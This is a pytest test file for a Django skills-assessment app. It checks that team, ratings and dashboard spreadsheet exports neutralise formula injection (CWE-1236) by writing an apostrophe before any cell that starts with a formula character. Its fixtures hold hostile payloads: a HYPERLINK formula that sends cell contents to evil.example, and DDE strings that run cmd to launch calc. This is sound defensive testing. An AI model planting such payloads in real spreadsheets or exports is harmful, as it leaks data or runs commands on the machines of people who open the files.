"""Spreadsheet formula injection (CWE-1236): no export writes a name as a live formula.

Every export — the team map (CSV, XLSX), the ratings one per line (CSV, XLSX) and the dashboard
workbook — is downloaded for an organization whose people, emails, teams, roles, audiences,
skills (and a slug), categories and training resources carry hostile names, and read back with
the ``csv`` module and openpyxl: no text cell starts with a formula character, no XLSX cell is
a formula (not even in the file's XML), the hostile names are there behind the apostrophe, and
numbers are still numbers.
"""

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from assessments.models import LearningPlanItem, SkillRating
from readiness.models import Audience, Person
from readiness.spreadsheets import (
    FORMULA_TRIGGERS,
    csv_text,
    spreadsheet_text_read,
    spreadsheet_value,
)
from tests.factories import PersonFactory, ResourceSkillFactory, TrainingResourceFactory
from tests.orgs import clear_framework, leadership_user
from tests.orgs.leadership import NOW, build_leadership_org

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B3,"Open")'
DDE = "+cmd|' /C calc'!A0"
HOSTILE = [
    HYPERLINK,
    DDE,
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
EMAILS = ["=1+1@example.com", "+cmd@example.com", "-sum@example.com"]


# --- The one helper ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_gets_the_text_mark_and_reads_back(text):
    safe = spreadsheet_value(text)
    assert safe == "'" + text
    assert spreadsheet_text_read(safe) == text


@pytest.mark.parametrize(
    "value",
    [
        3,
        -1,
        0,
        -0.5,
        2.25,
        None,
        True,
        dt.date(2026, 6, 1),
        "Prompt engineering",
        "a=b",
        "",
        "'quoted",
        "50 %",
    ],
)
def test_numbers_dates_and_plain_text_are_written_as_they_are(value):
    assert spreadsheet_value(value) == value
    if isinstance(value, str):
        assert spreadsheet_text_read(value) == value


def test_csv_text_neutralises_every_cell():
    rows = list(csv.reader(io.StringIO(csv_text([["ok", *HOSTILE, 4, -1]]))))
    assert rows == [["ok", *("'" + text for text in HOSTILE), "4", "-1"]]


# --- Reading files back ------------------------------------------------------------------------


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


def assert_csv_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_TRIGGERS), value


def assert_xlsx_safe(content: bytes) -> dict:
    """No formula anywhere in the workbook; returns its sheets as lists of rows of cells."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"a formula in {name}"
    book = load_workbook(io.BytesIO(content))
    sheets = {}
    for sheet in book.worksheets:
        rows = [list(row) for row in sheet.iter_rows()]
        for row in rows:
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):  # XML reads a carriage return back as "\n"
                    assert not cell.value.startswith((*FORMULA_TRIGGERS, "\n")), cell.value
        sheets[sheet.title] = rows
    return sheets


def marked(texts, xlsx: bool = False) -> set[str]:  # noqa: ANN001
    """The texts as the exports write them; XML reads a carriage return back as a line feed."""
    return {"'" + (text.replace("\r", "\n") if xlsx else text) for text in texts}


# --- The team exports --------------------------------------------------------------------------


@pytest.fixture
def hostile_team(make_team_org):
    clear_framework(skills=True)
    org = make_team_org(people=3, skills=4, categories=2)
    org.team.name = HYPERLINK
    org.team.save()
    for index, person in enumerate(org.people):
        person.user.first_name = HOSTILE[index]
        person.user.last_name = "Smith"
        person.user.email = EMAILS[index]
        person.user.save()
    role = org.people[0].role
    role.name = DDE
    role.save()
    for skill, name in zip(org.skills, HOSTILE[2:], strict=True):
        skill.name = name
        skill.save()
    org.skills[0].slug = "-calc"
    org.skills[0].save()
    for category, name in zip({s.category for s in org.skills}, HOSTILE[:2], strict=True):
        category.name = name
        category.save()
    # One required skill not assessed, so the XLSX map has an empty cell with a note.
    SkillRating.objects.filter(person=org.people[0], skill=org.skills[1]).delete()
    return org


def export(client, org, **params) -> bytes:  # noqa: ANN001, ANN003
    client.force_login(org.manager)
    response = client.get(reverse("assessments:team-export", args=[org.team.pk]), params)
    assert response.status_code == 200
    return response.content


def test_team_map_csv(client, hostile_team):
    rows = csv_cells(export(client, hostile_team, format="csv"))
    assert_csv_safe(rows)
    cells = {value for row in rows for value in row}
    assert marked([f"{HOSTILE[0]} Smith", DDE, *HOSTILE[2:], *EMAILS]) <= cells
    members = rows[1:4]
    assert all(re.fullmatch(r"\d|not assessed|", value) for row in members for value in row[3:7])
    assert all(row[-1].isdigit() for row in members)  # total gap


def test_team_map_xlsx(client, hostile_team):
    sheets = assert_xlsx_safe(export(client, hostile_team, format="xlsx"))
    values = {c.value for rows in sheets.values() for row in rows for c in row}
    assert (
        marked([f"{HOSTILE[0]} Smith", *HOSTILE[2:], *EMAILS, *HOSTILE[:2], "-calc"], xlsx=True)
        <= values
    )
    for row in sheets["Skill map"][1:4]:
        for cell in row[3:]:
            assert cell.value is None or isinstance(cell.value, int), cell.value
    cells = sheets["Cells"]
    assert all(isinstance(row[5].value, int) for row in cells[1:])  # target


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_ratings_export_is_safe_and_imports_as_it_is(client, hostile_team, fmt):
    content = export(client, hostile_team, format=fmt, shape="long")
    if fmt == "csv":
        rows = csv_cells(content)
        assert_csv_safe(rows)
        emails = {row[0] for row in rows[1:]}
    else:
        rows = assert_xlsx_safe(content)["Ratings"]
        assert all(r[2].value is None or isinstance(r[2].value, int) for r in rows[1:])
        emails = {row[0].value for row in rows[1:]}
    assert emails == marked(EMAILS)
    file = io.BytesIO(content)
    file.name = f"ratings.{fmt}"
    before = SkillRating.objects.count()
    body = client.post(
        reverse("assessments:team-import", args=[hostile_team.team.pk]), {"file": file}
    ).content.decode()
    assert 'data-testid="import-ready"' in body, body
    assert "0 ratings to record" in body
    assert SkillRating.objects.count() == before


# --- The dashboard workbook --------------------------------------------------------------------


@pytest.fixture
def hostile_org(db, settings):
    settings.MIN_AGGREGATE_PEOPLE = 5
    with time_machine.travel(NOW, tick=False):  # the organization built on its own day
        org = build_leadership_org()
        for team, name in (
            (org.engineering, HYPERLINK),
            (org.platform, DDE),
            (org.sales, HOSTILE[2]),
        ):
            team.name = name
            team.save()
        for audience, name in zip(
            Audience.objects.filter(name__in=["Tech", "Users"]), HOSTILE[3:5], strict=True
        ):
            audience.name = name
            audience.save()
        org.prompting.name = HOSTILE[5]
        org.prompting.save()
        org.prompting.category.name = HYPERLINK
        org.prompting.category.save()
        for person in Person.objects.filter(pk__in=[p.pk for p in org.devs]):
            person.user.first_name = DDE
            person.user.save()
        course = TrainingResourceFactory(title=DDE)
        skill = ResourceSkillFactory(resource=course, level=3).skill
        start, done = NOW - dt.timedelta(days=30), NOW - dt.timedelta(days=10)
        for _ in range(5):
            person = PersonFactory()
            SkillRating.objects.create(
                person=person,
                skill=skill,
                level=1,
                source="self",
                created_at=start - dt.timedelta(days=1),
            )
            LearningPlanItem.objects.create(
                person=person,
                resource=course,
                skill=skill,
                status="completed",
                started_at=start,
                completed_at=done,
            )
            SkillRating.objects.create(
                person=person,
                skill=skill,
                level=2,
                source="self",
                created_at=done + dt.timedelta(days=1),
            )
        yield org


def test_dashboard_workbook(client, hostile_org):
    from assessments.services.effectiveness import effectiveness_refresh

    effectiveness_refresh()  # what the worker keeps for the dashboard
    client.force_login(leadership_user())
    response = client.get(reverse("assessments:dashboard-export"))
    assert response.status_code == 200
    sheets = assert_xlsx_safe(response.content)
    values = {c.value for rows in sheets.values() for row in rows for c in row}
    assert marked([HYPERLINK, DDE, *HOSTILE[2:]], xlsx=True) <= values
    audiences = {row[0].value: row for row in sheets["By audience"][1:]}
    assert "'" + HOSTILE[3] in audiences and "'" + HOSTILE[4] in audiences
    # Figures are numbers, or the privacy floor's words where a group is hidden (a small
    # audience, or the one whose figures would reveal it by subtraction).
    shown = [row for row in audiences.values() if isinstance(row[1].value, int)]
    assert shown
    for row in audiences.values():
        if row in shown:
            assert all(isinstance(cell.value, int) for cell in row[1:5])
        else:
            assert str(row[1].value).startswith("hidden: fewer than 5 people")
    effectiveness = {row[0].value: row for row in sheets["Training effectiveness"][1:]}
    gain, people = effectiveness["'" + DDE][2:4]
    assert isinstance(gain.value, (int, float)) and people.value == 5


def test_manager_dashboard_workbook(client, hostile_org):
    client.force_login(hostile_org.manager)
    response = client.get(reverse("assessments:dashboard-export"))
    assert response.status_code == 200
    sheets = assert_xlsx_safe(response.content)
    values = {c.value for rows in sheets.values() for row in rows for c in row}
    assert any(isinstance(v, str) and v.startswith(("'" + HYPERLINK, "'" + DDE)) for v in values)
